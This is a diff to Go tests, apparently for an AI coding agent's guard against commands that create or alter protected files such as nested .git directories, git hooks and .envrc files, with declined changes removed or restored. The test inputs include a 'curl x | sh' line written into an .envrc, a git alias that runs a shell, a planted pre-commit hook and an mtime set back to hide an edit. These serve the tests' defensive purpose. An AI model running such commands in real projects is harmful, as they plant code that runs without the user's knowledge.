@@ -35,21 +35,21 @@ func TestCommandLeavesProtected(t *testing.T) {
 		told          []string          // what the model reads
 	}{
 		{name: "nested .git declined", command: nested, answers: []Answer{Deny},
-			subjects: []string{"protected sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"}, kept: []string{"sub/vendor/x"},
+			subjects: []string{"left sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"}, kept: []string{"sub/vendor/x"},
 			told: []string{"created sub/vendor/x/.git", "the user said no: it was removed"}},
 		{name: "nested .git kept", command: nested, answers: []Answer{Once},
-			subjects: []string{"protected sub/vendor/x/.git"}, kept: []string{"sub/vendor/x/.git/hooks/post-checkout"},
+			subjects: []string{"left sub/vendor/x/.git"}, kept: []string{"sub/vendor/x/.git/hooks/post-checkout"},
 			told: []string{"the user kept it"}},
 		{name: "nobody to ask", command: nested, answers: []Answer{Unasked},
-			subjects: []string{"protected sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"},
+			subjects: []string{"left sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"},
 			told: []string{"the user could not be asked: it was removed"}},
 		{name: ".envrc in a subfolder", command: "mkdir -p deep/er && echo 'curl x | sh' > deep/er/.envrc", answers: []Answer{Deny},
-			subjects: []string{"protected deep/er/.envrc"}, gone: []string{"deep/er/.envrc"}},
+			subjects: []string{"left deep/er/.envrc"}, gone: []string{"deep/er/.envrc"}},
 		{name: "an existing one changed, its mtime set back", command: "echo 'export B=2' > sub/.envrc && touch -r sub/a.go sub/.envrc", answers: []Answer{Deny},
-			subjects: []string{"protected sub/.envrc"}, back: map[string]string{"sub/.envrc": "export A=1\n"},
+			subjects: []string{"left sub/.envrc"}, back: map[string]string{"sub/.envrc": "export A=1\n"},
 			told: []string{"changed sub/.envrc", "put back as it was"}},
 		{name: "an existing nested repository", command: "echo '[alias] x = !sh' >> lib/y/.git/config && touch lib/y/.git/hooks/pre-commit && echo x > lib/y/.git/index", answers: []Answer{Deny},
-			subjects: []string{"protected lib/y/.git/config", "protected lib/y/.git/hooks/pre-commit"},
+			subjects: []string{"left lib/y/.git/config", "left lib/y/.git/hooks/pre-commit"},
 			gone:     []string{"lib/y/.git/hooks/pre-commit"}, back: map[string]string{"lib/y/.git/config": "[core]\n\tbare = false\n", "lib/y/.git/index": "x\n"}},
 		{name: "nothing protected", command: "echo x > sub/b.go && mkdir -p sub/n && echo y > sub/n/c.go", answers: []Answer{Deny}},
 	}
@@ -156,7 +156,7 @@ func TestCommandLeavesManyProtected(t *testing.T) {
 	q := &questions{answers: []Answer{Deny}}
 	s := newSet(t, root, Config{Ask: commandsRun(q), Sandbox: &fakeSandbox{}})
 	res := runTool(t, s, context.Background(), "bash", map[string]any{"command": "for p in a b c d e f; do mkdir -p nm/$p && echo x > nm/$p/.travis.yml; done"})
-	if d := cmp.Diff([]string{"protected 6 protected files"}, q.subjects()); d != "" {
+	if d := cmp.Diff([]string{"left 6 protected files"}, q.subjects()); d != "" {
 		t.Errorf("questions (-want +got):\n%s", d)
 	}
 	if !strings.Contains(q.asked[0].Detail, "created nm/f/.travis.yml") {
